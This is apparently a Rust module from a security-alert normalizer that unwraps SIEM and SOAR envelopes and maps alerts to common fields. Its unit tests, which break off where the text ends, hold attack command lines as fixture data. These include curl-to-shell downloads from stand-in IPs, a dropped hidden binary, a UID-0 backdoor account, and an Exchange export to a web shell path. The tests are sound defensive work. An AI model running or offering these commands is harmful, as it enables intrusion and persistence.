fn json_object(t: &str) -> Option<Map<String, Json>> {
    let t = t.trim();
    if !t.starts_with('{') {
        return None;
    }
    serde_json::from_str::<Map<String, Json>>(t)
        .ok()
        .filter(|m| m.len() >= 2)
}

/// The alert inside a forwarding envelope, or `None` when `obj` is not one:
/// - a Cortex XSOAR incident keeps the fetched alert as `rawJSON`;
/// - a Splunk HTTP Event Collector payload carries it as `event` (an object, JSON text, or a
///   raw log line, which becomes the `message` of a document naming the HEC `host`);
/// - a syslog relay or log shipper (rsyslog, Fluent Bit, Vector, Logstash) may carry the whole
///   JSON document as text in `message` / `log` / `msg`, beside its own metadata.
///
/// A document that already describes a process is never unwrapped.
pub(super) fn unwrap_envelope(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    let describes_process = obj.contains_key("process")
        || obj.keys().any(|k| k.starts_with("process."))
        || [
            "EventID",
            "CommandLine",
            "Image",
            "ScriptBlockText",
            "columns",
        ]
        .iter()
        .any(|k| obj.contains_key(*k));
    if describes_process {
        return None;
    }
    // XSOAR: the incident's own fields say it is one.
    if [
        "dbotMirrorId",
        "sourceBrand",
        "playbookId",
        "sourceInstance",
    ]
    .iter()
    .any(|k| obj.contains_key(*k))
    {
        match obj.get("rawJSON") {
            Some(Json::Object(m)) => return Some(m.clone()),
            Some(v) => return json_text(v),
            None => {}
        }
    }
    // Cisco Secure Endpoint's API answering for one event: `{version, metadata, data: {…}}`.
    if obj.contains_key("version")
        && let Some(Json::Object(d)) = obj.get("data")
        && d.contains_key("event_type")
        && (d.contains_key("connector_guid") || d.contains_key("computer"))
    {
        return Some(d.clone());
    }
    // Splunk HEC.
    if let Some(ev) = obj.get("event")
        && ["sourcetype", "source", "index"]
            .iter()
            .any(|k| obj.contains_key(*k))
    {
        let host = obj.get("host").filter(|h| h.is_string()).cloned();
        let mut inner = match ev {
            Json::Object(m) => m.clone(),
            Json::String(t) => json_text(ev).unwrap_or_else(|| {
                let mut m = Map::new();
                m.insert("message".into(), Json::String(t.clone()));
                m
            }),
            _ => return None,
        };
        if let Some(h) = host
            && !inner.contains_key("host")
            && !inner.contains_key("hostname")
        {
            inner.insert("hostname".into(), h);
        }
        return Some(inner);
    }
    // An Amazon SNS notification (an HTTP/S subscription's body, or an SQS message of an
    // SNS topic): the published event is the JSON text under `Message`.
    if obj.get("Type").and_then(Json::as_str) == Some("Notification")
        && obj.contains_key("TopicArn")
        && let Some(inner) = obj.get("Message").and_then(json_text)
    {
        return Some(inner);
    }
    // A Datadog Cloud SIEM log signal: the log's own attributes (a Windows event, a syslog
    // line…) under `custom` (v2 API) or `attributes`. A Workload Protection signal (a `process`
    // there) is read by its own adapter.
    if let Some((_, sig, Json::Object(inner))) = super::edr::datadog_event(obj)
        && inner
            .get("process")
            .is_none_or(super::edr::datadog_log_only)
    {
        let mut inner = inner.clone();
        // A log's own line (a unified-log or syslog entry) is its `message`, beside the
        // attributes parsed from it.
        if inner.contains_key("process") {
            inner.remove("process");
            if let Some(m) = sig.get("message").filter(|m| m.is_string())
                && !inner.contains_key("message")
            {
                inner.insert("message".into(), m.clone());
            }
        }
        if let Some(h) = sig
            .get("host")
            .or_else(|| inner.get("host"))
            .filter(|h| h.is_string())
            .cloned()
            && !inner.contains_key("hostname")
        {
            inner.insert("hostname".into(), h);
        }
        inner.remove("host");
        return Some(inner);
    }
    // A SOAR webhook's envelope: the product's event under `event.data` with the source named
    // beside it; Torq's `body` beside `torq_event`; a Tines event's `payload.<action>.body`.
    if obj.len() <= 3
        && let Some(Json::Object(ev)) = obj.get("event")
        && ev.get("source").is_some_and(Json::is_string)
        && let Some(Json::Object(data)) = ev.get("data")
    {
        return Some(data.clone());
    }
    // A Graylog search result's message (`{"message": {fields…}, "index": …}`): its fields,
    // the log line under `message` and the sending host as `source`.
    if let Some(Json::Object(m)) = obj.get("message")
        && (obj.get("index").is_some_and(Json::is_string) || obj.contains_key("highlight_ranges"))
        && m.get("message").is_some_and(Json::is_string)
        && (m.contains_key("gl2_message_id")
            || m.contains_key("gl2_source_input")
            || m.contains_key("streams"))
    {
        let mut inner = m.clone();
        if let Some(h) = inner.get("source").filter(|h| h.is_string()).cloned()
            && !inner.contains_key("host")
            && !inner.contains_key("hostname")
        {
            inner.insert("hostname".into(), h);
        }
        return Some(inner);
    }
    // A Trend Vision One observed attack technique (OAT): the telemetry event under `detail`,
    // the filters that matched it (their names and technique ids) beside it.
    if let Some(Json::Object(d)) = obj.get("detail")
        && let Some(filters) = obj.get("filters").and_then(Json::as_array)
        && d.contains_key("endpointHostName")
        && (d.contains_key("objectCmd") || d.contains_key("processCmd"))
    {
        let mut inner = d.clone();
        if let Some(n) = filters
            .first()
            .and_then(|f| f.get("name"))
            .filter(|n| n.is_string())
        {
            inner.entry("ruleName").or_insert_with(|| n.clone());
        }
        let ids: Vec<Json> = filters
            .iter()
            .filter_map(|f| f.get("mitreTechniqueIds")?.as_array())
            .flatten()
            .cloned()
            .collect();
        inner.insert("mitreTechniqueIds".into(), Json::Array(ids));
        return Some(inner);
    }
    // A SOAR's polling trigger: what the integration returned under `event`, beside the
    // `trigger` that fetched it.
    if obj.len() == 2
        && obj.get("trigger").is_some_and(Json::is_object)
        && let Some(Json::Object(ev)) = obj.get("event")
    {
        return Some(ev.clone());
    }
    // Cortex XDR's alert forwarding payload: `request_data.alert_data`.
    if obj.len() <= 2
        && let Some(Json::Object(a)) = obj.get("request_data").and_then(|r| r.get("alert_data"))
    {
        return Some(a.clone());
    }
    if obj.contains_key("torq_event")
        && let Some(Json::Object(body)) = obj.get("body")
    {
        return Some(body.clone());
    }
    // A Tines webhook action's own event: `{"<action name>": {"body": …, "headers": …}}`.
    if obj.len() == 1
        && let Some(Json::Object(action)) = obj.values().next()
        && let Some(Json::Object(body)) = action.get("body")
        && action.keys().all(|k| {
            [
                "body",
                "headers",
                "method",
                "path",
                "query",
                "query_parameters",
                "url",
                "status",
            ]
            .contains(&k.as_str())
        })
    {
        return Some(body.clone());
    }
    if obj.contains_key("story_id")
        && let Some(Json::Object(payload)) = obj.get("payload")
        && let Some(body) = payload
            .values()
            .find_map(|a| a.get("body").and_then(Json::as_object))
    {
        return Some(body.clone());
    }
    // Sumo Logic's search-job messages (`{"map": {"_raw": …, "_sourcehost": …, fields…}}`), or
    // one message as a monitor's webhook sends it (`_raw` beside `_messagetime` at the top): the
    // raw message when it is a JSON event, else the message's fields with the raw line.
    let sumo = match obj.get("map") {
        Some(Json::Object(m)) => Some(m),
        _ if obj.contains_key("_raw") && obj.contains_key("_messagetime") => Some(obj),
        _ => None,
    };
    if let Some(m) = sumo
        && (m.contains_key("_raw") || m.contains_key("_messagetime"))
        && (!std::ptr::eq(m, obj) || m.get("_raw").and_then(json_text).is_some())
    {
        let host = m.get("_sourcehost").filter(|h| h.is_string()).cloned();
        let mut inner = m
            .get("_raw")
            .and_then(json_text)
            .unwrap_or_else(|| m.clone());
        if let Some(h) = host
            && !inner.contains_key("host")
            && !inner.contains_key("hostname")
            && !inner.contains_key("hostIdentifier")
        {
            inner.insert("hostname".into(), h);
        }
        return Some(inner);
    }
    // JSON text in a shipper's message field.
    ["message", "log", "msg"]
        .iter()
        .find_map(|k| obj.get(*k).and_then(json_text))
}

/// A correlation that carries the shell log lines it matched (a Splunk notable's `commands`,
/// one `shell[pid]: [root]: …` ESXi line, sudo line or history line each): the session those
/// commands ran in, one command per line of its command line, as the account the lines name;
/// the notable's `dest` is the host and `src` where the session came from.
pub(super) fn shell_log_commands(
    obj: &Map<String, Json>,
) -> Option<(Map<String, Json>, Option<String>)> {
    let lines = obj.get("commands")?.as_array()?;
    let parsed: Vec<Json> = lines
        .iter()
        .filter_map(Json::as_str)
        .filter_map(syslog_command)
        .map(Json::Object)
        .collect();
    let first = parsed.first()?;
    let cmds: Vec<&str> = parsed
        .iter()
        .filter_map(|p| p.get("process")?.get("command_line")?.as_str())
        .collect();
    let mut e = Map::new();
    put_process(
        &mut e,
        "process",
        Some("/bin/sh".to_owned()),
        Some(&cmds.join("\n")),
    );
    set_path(&mut e, "process.interactive", Json::Bool(true));
    if let Some(app) = mtext(obj, "app") {
        set_path(&mut e, "process.parent.name", s(app));
    }
    for (from, to) in [
        ("user.name", "user.name"),
        ("host.os.type", "host.os.type"),
        ("event.provider", "event.provider"),
    ] {
        if let Some(v) = super::get_path(first, from) {
            set_path(&mut e, to, v.clone());
        }
    }
    if let Some(h) = ["dest", "orig_host", "host", "hostname"]
        .iter()
        .find_map(|k| mtext(obj, k))
    {
        set_path(&mut e, "host.name", s(h));
    }
    if let Some(ip) = mtext(obj, "src").filter(|v| v.parse::<std::net::IpAddr>().is_ok()) {
        set_path(&mut e, "source.ip", s(ip));
    }
    if let Some(Json::Array(t)) = obj.get("annotations").and_then(|a| a.get("mitre_attack")) {
        let ids: Vec<&str> = t.iter().filter_map(Json::as_str).collect();
        set_techniques(&mut e, &ids);
    }
    for k in ["search_name", "rule_name"] {
        if let Some(r) = mtext(obj, k) {
            set_path(&mut e, "rule.name", s(r));
            break;
        }
    }
    if let Some(t) = mtext(obj, "_time") {
        e.insert("@timestamp".into(), s(t));
    }
    let id = mtext(obj, "event_id").map(str::to_owned);
    finish(&mut e, "splunk", "splunk", Json::Object(obj.clone()));
    Some((e, id))
}

/// One Graylog message read back as the event it was: a winlogbeat event's fields flattened
/// with underscores (`winlog_event_data_Image`) as the flat Windows event, a message whose
/// `message` is JSON text as that document (the message's `source` as its host), anything else
/// as it is, with the notification's title as its rule.
fn graylog_message(m: &Map<String, Json>, title: Option<&Json>) -> Json {
    let mut flat = Map::new();
    for (k, v) in m {
        if let Some(i) = k.find("event_data_") {
            flat.insert(k[i + "event_data_".len()..].to_owned(), v.clone());
        }
    }
    if !flat.is_empty() {
        for (suffix, to) in [
            ("event_id", "EventID"),
            ("computer_name", "Computer"),
            ("channel", "Channel"),
            ("provider_name", "SourceName"),
        ] {
            if let Some(v) = m
                .iter()
                .find(|(k, _)| k.starts_with("winlog") && k.ends_with(suffix))
                .map(|(_, v)| v.clone())
            {
                flat.entry(to).or_insert(v);
            }
        }
        if let Some(t) = m.get("timestamp") {
            flat.entry("@timestamp").or_insert_with(|| t.clone());
        }
        return Json::Object(flat);
    }
    match m.get("message").and_then(json_text) {
        Some(mut inner) => {
            if let Some(src) = m.get("source").filter(|v| v.is_string())
                && !["host", "hostname", "Computer"]
                    .iter()
                    .any(|k| inner.contains_key(*k))
            {
                inner.insert("hostname".into(), src.clone());
            }
            Json::Object(inner)
        }
        None => {
            let mut m = m.clone();
            if let Some(t) = title {
                m.entry("rule_name").or_insert_with(|| t.clone());
            }
            Json::Object(m)
        }
    }
}

/// A Graylog search result (`{"query", "used_indices", "messages": [{"message": {…}}]}`): one
/// alert per message, each read as the event it was.
pub(super) fn graylog_search_messages(o: &Map<String, Json>) -> Option<Vec<Json>> {
    if !(o.contains_key("used_indices") || o.contains_key("built_query")) {
        return None;
    }
    let messages: Vec<Json> = o
        .get("messages")?
        .as_array()?
        .iter()
        .filter_map(|x| x.get("message")?.as_object())
        .map(|m| graylog_message(m, None))
        .collect();
    (!messages.is_empty()).then_some(messages)
}

/// A Graylog event notification (`event_definition_id`, `event`, `backlog[]`): the messages
/// that fired it, each one alert. Graylog stores a shipper's nested fields flattened with
/// underscores: a winlogbeat event's `winlog.event_data.Image` is `winlog_event_data_Image`
/// (`winlogbeat_winlog_event_data_Image` with the Beats input's type prefix), read back as the
/// flat Windows event it was; a message whose `message` is JSON text (Laurel, eslogger) is
/// that document, with the message's `source` as its host. `None` when nothing is backlogged:
/// the notification is then read like any document.
pub(super) fn graylog_backlog(obj: &Map<String, Json>) -> Option<Vec<Json>> {
    if !obj.contains_key("event_definition_id") || !obj.contains_key("event") {
        return None;
    }
    let backlog = obj.get("backlog")?.as_array()?;
    let title = obj.get("event_definition_title");
    let out: Vec<Json> = backlog
        .iter()
        .filter_map(Json::as_object)
        .map(|m| graylog_message(m, title))
        .collect();
    (!out.is_empty()).then_some(out)
}

/// OpenSearch Security Analytics' findings search (`total_findings`, `findings[]`): each
/// finding's matched document (JSON text under `document_list`) is the alert; its queries (the
/// Sigma rules that matched) name the rule and, through their `attack.tNNNN` tags, the
/// techniques. A finding whose documents were not returned is read as it is.
pub(super) fn opensearch_findings(obj: &Map<String, Json>) -> Option<Vec<Json>> {
    if !obj.contains_key("total_findings") {
        return None;
    }
    let findings = obj.get("findings")?.as_array()?;
    let read = |f: &Json| -> Json {
        let doc = f
            .get("document_list")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .filter(|d| d.get("found").and_then(Json::as_bool) != Some(false))
            .find_map(|d| match d.get("document")? {
                Json::String(t) => serde_json::from_str::<Map<String, Json>>(t).ok(),
                Json::Object(m) => Some(m.clone()),
                _ => None,
            });
        let Some(mut doc) = doc else {
            return f.clone();
        };
        let queries: Vec<&Json> = f
            .get("queries")
            .and_then(Json::as_array)
            .into_iter()
            .flatten()
            .collect();
        let techniques: Vec<Json> = queries
            .iter()
            .filter_map(|q| q.get("tags").and_then(Json::as_array))
            .flatten()
            .filter_map(Json::as_str)
            .filter_map(|t| t.strip_prefix("attack.t"))
            .filter(|t| t.starts_with(|c: char| c.is_ascii_digit()))
            .map(|t| Json::String(format!("T{}", t.to_ascii_uppercase())))
            .collect();
        if !techniques.is_empty()
            && doc.get("threat").is_none()
            && !doc.contains_key("threat.technique.id")
        {
            doc.insert("threat.technique.id".into(), Json::Array(techniques));
        }
        if let Some(name) = queries
            .iter()
            .find_map(|q| q.get("name").filter(|n| n.is_string()))
            && doc.get("rule").is_none()
            && !doc.contains_key("rule.name")
        {
            doc.insert("rule.name".into(), name.clone());
        }
        Json::Object(doc)
    };
    let out: Vec<Json> = findings.iter().map(read).collect();
    (!out.is_empty()).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn str_at<'a>(e: &'a Map<String, Json>, path: &str) -> &'a str {
        let mut v = e.get(path.split('.').next().unwrap());
        for k in path.split('.').skip(1) {
            v = v.and_then(|x| x.get(k));
        }
        v.and_then(Json::as_str).unwrap_or("")
    }

    #[test]
    fn sentinel_asim_process_event() {
        let a = json!({"EventSchema": "ProcessEvent", "DvcHostname": "web-4", "DvcOs": "Linux",
            "TargetProcessName": "/usr/bin/dash", "TargetProcessCommandLine": "sh -c id",
            "TargetProcessCurrentDirectory": "/var/www/html", "TargetUsername": "www-data", "TargetProcessId": "287",
            "ActingProcessName": "/usr/sbin/php-fpm8.1", "ActingProcessCommandLine": "php-fpm: pool www",
            "ParentProcessName": "/usr/lib/systemd/systemd", "EventOriginalUid": "771902"});
        let (e, id) = sentinel_asim(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("771902"));
        assert_eq!(str_at(&e, "process.name"), "dash");
        assert_eq!(str_at(&e, "process.command_line"), "sh -c id");
        assert_eq!(str_at(&e, "process.parent.name"), "php-fpm8.1");
        assert_eq!(str_at(&e, "process.parent.parent.name"), "systemd");
        assert_eq!(str_at(&e, "process.working_directory"), "/var/www/html");
        assert_eq!(str_at(&e, "user.name"), "www-data");
        assert_eq!(e["process"]["pid"], 287);
        assert_eq!(str_at(&e, "host.name"), "web-4");
    }

    #[test]
    fn a_sumo_cloud_siem_signal_is_read_at_its_newest_record() {
        let sig = json!({"id": "sig-1", "ruleName": "UID 0 account", "tags": ["_mitreAttackTechnique:T1136.001", "_mitreAttackTactic:TA0003"],
            "records": [
                {"timestamp": "2025-11-20T12:58:31Z", "metadata_vendor": "Linux", "device_hostname": "idm-2", "user_username": "root",
                 "user_authUserId": "1004",
                 "commandLine": "useradd -o -u 0 sysmaint", "baseImage": "/usr/sbin/useradd", "parentBaseImage": "/usr/bin/bash"},
                {"timestamp": "2025-11-20T12:58:04Z", "metadata_vendor": "Linux", "device_hostname": "idm-2", "user_username": "pn", "user_userId": "1004",
                 "commandLine": "sudo -i", "baseImage": "/usr/bin/sudo", "parentBaseImage": "/usr/bin/bash"}]});
        let (e, id) = sumo_cse_records(sig.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("sig-1"));
        assert_eq!(
            str_at(&e, "process.command_line"),
            "useradd -o -u 0 sysmaint\nsudo -i"
        );
        assert_eq!(str_at(&e, "user.name"), "root");
        // The login account behind the sudo, by the records' user ids.
        assert_eq!(str_at(&e, "user.audit.name"), "pn");
        assert_eq!(e["threat"]["technique"]["id"], json!(["T1136.001"]));
        // A Windows event's own fields under `fields` (a 4104 script block).
        let sb = json!({"id": "sig-2", "allRecords": [{"metadata_vendor": "Microsoft", "metadata_deviceEventId": "Microsoft-Windows-PowerShell-4104",
            "device_hostname": "idm-1", "user_username": "corp\\svc_idm", "timestamp": 1759194312000u64,
            "fields": {"EventData.ScriptBlockText": "Connect-MgGraph -NoWelcome", "EventData.Path": "D:\\IAM\\sync.ps1"}}]});
        let (e, _) = sumo_cse_records(sb.as_object().unwrap()).unwrap();
        assert_eq!(
            str_at(&e, "powershell.file.script_block_text"),
            "Connect-MgGraph -NoWelcome"
        );
        assert_eq!(str_at(&e, "user.name"), "svc_idm");
        assert!(sumo_cse_records(json!({"records": [{"a": 1}]}).as_object().unwrap()).is_none());
    }

    #[test]
    fn qradar_and_exabeam_events_take_the_newest_process() {
        let q = json!({"search_id": "0b1f", "offense_id": 48902, "offense_description": "Shell spawned\n preceded by sudo\n",
            "events": [
                {"Event Name": "SSH Login Succeeded", "username": "tb", "Process Name": "sshd", "Process CommandLine": null},
                {"username": "tb", "Process Name": "sudo", "Process CommandLine": "sudo su -", "Parent Process Name": "bash", "Log Source": "LinuxServer @ db-2"},
                {"username": "root", "Process Name": "python3", "Process CommandLine": "python3 -c 'import pty'", "Parent Process Name": "bash", "Log Source": "LinuxAudit @ db-2"}]});
        let (e, id) = correlated_events(q.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("48902"));
        assert_eq!(str_at(&e, "process.name"), "python3");
        assert_eq!(
            str_at(&e, "process.command_line"),
            "python3 -c 'import pty'\nsudo su -"
        );
        assert_eq!(str_at(&e, "process.parent.name"), "bash");
        assert_eq!(str_at(&e, "user.name"), "root");
        assert_eq!(str_at(&e, "host.name"), "db-2");
        assert_eq!(str_at(&e, "rule.name"), "Shell spawned");
        // An audit record names its account by number; the row's `username` names it.
        let a = json!({"events": [{"qid": 1, "LOGSOURCENAME(logsourceid)": "LinuxServer @ db-3", "username": "root",
            "UTF8(payload)": "<14>Mar 19 03:32:11 db-3 audispd: node=db-3 type=EXECVE msg=audit(1742355131.207:7): argc=3 a0=\"tar\" a1=\"czf\" a2=\"/dev/shm/.e.tgz\""}]});
        let e = crate::alert::from_json(a, "x").unwrap().doc;
        let e = e.as_object().unwrap();
        assert_eq!(str_at(e, "process.name"), "tar");
        assert_eq!(str_at(e, "user.name"), "root");
        let x = json!({"alertId": "3f9b", "alertName": "Cron runs hidden script", "mitres": [{"techniqueKey": "T1059.004"}],
            "events": [{"host": "pg-3", "user": "postgres", "process_path": "/usr/bin/bash", "process_command_line": "/bin/bash /tmp/.X25-unix/a",
                        "process_dir": "/tmp/.X25-unix", "parent_process_path": "/usr/sbin/cron", "process_id": "2219807"}]});
        let (e, _) = correlated_events(x.as_object().unwrap()).unwrap();
        assert_eq!(str_at(&e, "process.name"), "bash");
        assert_eq!(str_at(&e, "process.parent.name"), "cron");
        assert_eq!(str_at(&e, "process.working_directory"), "/tmp/.X25-unix");
        assert_eq!(str_at(&e, "host.name"), "pg-3");
        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.004"]));
        assert!(correlated_events(json!({"events": []}).as_object().unwrap()).is_none());
        // One Ariel row on its own.
        let row = json!({"qid": 5000830, "QIDNAME(qid)": "A new process has been created",
            "LOGSOURCENAME(logsourceid)": "WindowsAuthServer @ WS-9", "username": "jk",
            "Process Name": "powershell.exe", "Process CommandLine": "powershell -nop -c iex x", "Parent Process Name": "winword.exe"});
        let (e, _) = correlated_events(row.as_object().unwrap()).unwrap();
        assert_eq!(
            str_at(&e, "process.command_line"),
            "powershell -nop -c iex x"
        );
        assert_eq!(str_at(&e, "process.parent.name"), "winword.exe");
        assert_eq!(str_at(&e, "host.name"), "WS-9");
        // An offense as the API gives it, its events raw ESXi shell lines (`payload`).
        let o = json!({"id": 40213, "offense_type": 3, "magnitude": 9, "description": "ESXi shell commands\n preceded by SSH login\n",
            "events": [
                {"qidname_qid": "SSH Login Succeeded", "username": "root", "logsourcename_logsourceid": "VMware ESXi @ esx-4",
                 "payload": "<38>1 2025-08-09T02:52:01Z esx-4 sshd 2099461 - -  Accepted keyboard-interactive/pam for root from 10.10.5.23 port 51844 ssh2"},
                {"qidname_qid": "ESXi Shell Command", "logsourcename_logsourceid": "VMware ESXi @ esx-4",
                 "payload": "<166>1 2025-08-09T02:52:05Z esx-4 shell 2099470 - -  [root]: vim-cmd vmsvc/getallvms"},
                {"payload": "2025-08-09T02:53:00Z shell[2099470]: [root]: esxcli vm process kill --type=force --world-id=1"}]});
        let (e, id) = correlated_events(o.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("40213"));
        assert_eq!(
            str_at(&e, "process.command_line"),
            "esxcli vm process kill --type=force --world-id=1\nvim-cmd vmsvc/getallvms"
        );
        assert_eq!(str_at(&e, "process.parent.name"), "sh");
        assert_eq!(str_at(&e, "user.name"), "root");
        assert_eq!(str_at(&e, "rule.name"), "ESXi shell commands");
        assert_eq!(str_at(&e, "host.name"), "esx-4");
    }

    #[test]
    fn rapid7_investigation_evidence() {
        let ev = |cmd: &str, user: &str, parent: &str| {
            json!({"event_type": "PROCESS_START_EVENT", "data": json!({"hostname": "db-1", "os_type": "Linux",
                "process": {"name": "x", "exe_path": format!("/usr/bin/{}", cmd.split(' ').next().unwrap()), "cmd_line": cmd, "username": user, "pid": 7},
                "parent_process": {"name": "bash", "exe_path": "/usr/bin/bash", "cmd_line": parent}}).to_string()})
        };
        let a = json!({"rrn": "rrn:investigation:1", "title": "Piped download to root shell", "alerts": [
            {"title": "SSH from new asset", "mitre_tcodes": ["T1021.004"], "evidence": [{"event_type": "INGRESS_AUTHENTICATION", "data": "{}"}]},
            {"title": "Curl piped to shell", "mitre_tcodes": ["T1059.004"], "evidence": [
                ev("sudo bash -c curl -s http://203.0.113.61/s | bash", "deploy", "-bash"),
                ev("curl -s http://203.0.113.61/s", "root", "bash -c curl -s http://203.0.113.61/s | bash")]}]});
        let (e, id) = rapid7_idr(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("rrn:investigation:1"));
        assert_eq!(str_at(&e, "process.name"), "curl");
        assert_eq!(
            str_at(&e, "process.command_line"),
            "curl -s http://203.0.113.61/s\nsudo bash -c curl -s http://203.0.113.61/s | bash"
        );
        assert_eq!(
            str_at(&e, "process.parent.command_line"),
            "bash -c curl -s http://203.0.113.61/s | bash"
        );
        assert_eq!(str_at(&e, "user.name"), "root");
        assert_eq!(str_at(&e, "host.name"), "db-1");
        assert_eq!(
            e["threat"]["technique"]["id"],
            json!(["T1021.004", "T1059.004"])
        );
    }

    #[test]
    fn devo_extra_data_and_trend_detections() {
        let d = json!({"alertId": "1182", "context": "my.alert.acme.ScriptHost", "extraData": "{\"EventID\": 1, \"Image\": \"C:\\\\Windows\\\\System32\\\\cscript.exe\"}"});
        let (inner, rule) = devo_event(d.as_object().unwrap()).unwrap();
        assert_eq!(inner["Image"], "C:\\Windows\\System32\\cscript.exe");
        assert_eq!(rule, "ScriptHost");
        let t = json!({"uuid": "a3c9", "endpointHostName": "EC2-1", "processUser": "SYSTEM", "userDomain": "NT AUTHORITY",
            "processFilePath": "C:\\Program Files\\Amazon\\SSM\\ssm-document-worker.exe", "processCmd": "ssm-document-worker.exe x",
            "objectFilePath": "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "objectCmd": "powershell.exe -f C:\\ProgramData\\Amazon\\SSM\\a.ps1",
            "ruleName": "PowerShell by service", "tags": ["MITREV9.T1059.001", "XSAE.F7311"]});
        let (e, id) = trend_detection(t.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("a3c9"));
        assert_eq!(str_at(&e, "process.name"), "powershell.exe");
        assert_eq!(str_at(&e, "process.parent.name"), "ssm-document-worker.exe");
        assert_eq!(str_at(&e, "user.name"), "SYSTEM");
        assert_eq!(str_at(&e, "user.domain"), "NT AUTHORITY");
        assert_eq!(e["threat"]["technique"]["id"], json!(["T1059.001"]));
    }
    #[test]
    fn sekoia_alert_takes_the_matching_event_and_the_others_as_branches() {
        let a = json!({"uuid": "c1f7", "short_id": "ALz", "urgency": {"value": 85}, "rule": {"name": "Piped Download From Cron"},
            "ttps": [{"id": "T1059.004"}, {"id": "T1053.003"}],
            "events": [
                {"user": {"name": "root"}, "host": {"name": "etl-1"}, "process": {"name": "sh", "command_line": "/bin/sh -c (curl -fsSL http://198.51.100.131/c.sh)|sh",
                    "parent": {"name": "cron"}}},
                {"file": {"path": "/usr/bin/.kswapd"}, "process.command_line": "curl -fsSL http://198.51.100.131/x -o /usr/bin/.kswapd"},
                {"file": {"path": "/etc/passwd"}}]});
        let (e, id) = sekoia_alert(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("c1f7"));
        assert_eq!(
            str_at(&e, "process.command_line"),
            "/bin/sh -c (curl -fsSL http://198.51.100.131/c.sh)|sh\ncurl -fsSL http://198.51.100.131/x -o /usr/bin/.kswapd"
        );
        assert_eq!(str_at(&e, "user.name"), "root");
        assert_eq!(str_at(&e, "process.parent.name"), "cron");
        assert_eq!(str_at(&e, "rule.name"), "Piped Download From Cron");
        assert_eq!(
            e["threat"]["technique"]["id"],
            json!(["T1059.004", "T1053.003"])
        );
    }
    #[test]
    fn sentinel_event_table_rows_read_their_event_data() {
        let row = json!({"Type": "Event", "EventID": 4104, "EventLog": "Microsoft-Windows-PowerShell/Operational",
            "Source": "Microsoft-Windows-PowerShell", "Computer": "LT-1", "UserName": "KESTREL\\nbell",
            "EventData": "<DataItem type=\"System.XmlData\"><EventData xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\"><Data Name=\"MessageNumber\">1</Data><Data Name=\"ScriptBlockText\">iex &amp; &lt;x&gt;</Data><Data Name=\"Path\" /><Data Name=\"ScriptBlockId\">a-1</Data></EventData></DataItem>"});
        let flat = sentinel_event_row(row.as_object().unwrap()).unwrap();
        assert_eq!(flat["ScriptBlockText"], "iex & <x>");
        assert_eq!(flat["ScriptBlockId"], "a-1");
        assert!(!flat.contains_key("Path"));
        assert_eq!(flat["EventID"], 4104);
        assert_eq!(flat["Channel"], "Microsoft-Windows-PowerShell/Operational");
        assert_eq!(flat["User"], "KESTREL\\nbell");
        assert!(
            sentinel_event_row(
                json!({"EventID": 1, "EventData": "plain"})
                    .as_object()
                    .unwrap()
            )
            .is_none()
        );
        // A classic engine event (400): unnamed data items, one of them key=value lines.
        let classic = json!({"Type": "Event", "EventID": 400, "EventLog": "Windows PowerShell", "Computer": "DC-1",
            "EventData": "<DataItem><EventData><Data>Available</Data><Data>None</Data><Data>\tNewEngineState=Available\r\n\tHostVersion=2.0\r\n\tHostApplication=powershell.exe -Version 2 -c IEX (x) &amp; y\r\n\tEngineVersion=2.0\r\n</Data></EventData></DataItem>"});
        let flat = sentinel_event_row(classic.as_object().unwrap()).unwrap();
        assert_eq!(
            flat["HostApplication"],
            "powershell.exe -Version 2 -c IEX (x) & y"
        );
        assert_eq!(flat["EngineVersion"], "2.0");
        let e = crate::alert::windows_flat(&flat);
        assert_eq!(
            e["process"]["command_line"],
            "powershell.exe -Version 2 -c IEX (x) & y"
        );
        assert_eq!(e["powershell"]["engine"]["version"], "2.0");
    }
    #[test]
    fn exchange_cmdlet_log_is_the_cmdlet_and_its_caller() {
        let a = json!({"@timestamp": "2025-02-18T04:52:11Z", "winlog": {"provider_name": "MSExchange CmdletLogs",
            "computer_name": "MX01", "record_id": 640211, "event_data": {"param1": "New-MailboxExportRequest",
            "param2": "{Mailbox=j@x.com, FilePath=\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\z.aspx}",
            "param3": "x.com/Users/Administrator", "param4": "S-1-5-21-1-2-3-500"}}});
        let (e, id) = exchange_cmdlet(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("640211"));
        assert!(
            str_at(&e, "process.command_line")
                .starts_with("New-MailboxExportRequest {Mailbox=j@x.com, FilePath=")
        );
        assert_eq!(str_at(&e, "user.name"), "Administrator");
        assert_eq!(str_at(&e, "user.domain"), "x.com");
        assert_eq!(str_at(&e, "user.id"), "S-1-5-21-1-2-3-500");
        assert_eq!(str_at(&e, "host.name"), "MX01");
    }
    #[test]
    fn logrhythm_alarm_events() {
        let a = json!({"alarmId": 1185420, "alarmRuleName": "Remote Login Followed By Privileged Download",
            "alarmEventsDetails": [
                {"account": "itadmin", "command": null, "process": "sshd", "impactedHostName": "FIN-MBP"},
                {"account": "root", "command": "/bin/bash -c curl -fsSL http://203.0.113.90/a.sh | bash", "process": "bash",
                 "parentProcessName": "sudo", "impactedHostName": "FIN-MBP"}]});
        let (e, id) = correlated_events(a.as_object().unwrap()).unwrap();
        assert_eq!(id.as_deref(), Some("1185420"));
        assert_eq!(
            str_at(&e, "process.command_line"),
            "/bin/bash -c curl -fsSL http://203.0.113.90/a.sh | bash"
        );
        assert_eq!(str_at(&e, "process.parent.name"), "sudo");
        assert_eq!(str_at(&e, "user.name"), "root");
        assert_eq!(str_at(&e, "host.name"), "FIN-MBP");
        assert_eq!(
            str_at(&e, "rule.name"),
            "Remote Login Followed By Privileged Download"
        );
    }
    #[test]
    fn forwarding_envelopes_are_opened() {
